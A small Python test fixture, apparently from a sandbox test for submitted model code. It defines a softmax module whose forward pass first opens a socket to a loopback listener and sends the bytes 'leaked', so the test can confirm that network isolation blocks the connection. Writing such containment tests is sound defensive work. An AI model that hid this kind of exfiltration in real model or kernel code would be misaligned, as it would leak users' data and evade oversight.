"""Correct softmax, but first phones home: connects to a listener on loopback (the test puts
its port in PORT). The sandbox's network namespace must make the connection fail."""

import socket

import torch
import torch.nn as nn

PORT = 0  # replaced by the test


class ModelNew(nn.Module):
    def forward(self, x):
        with socket.create_connection(("127.0.0.1", PORT), timeout=5) as s:
            s.sendall(b"leaked")
        return torch.softmax(x, dim=-1)
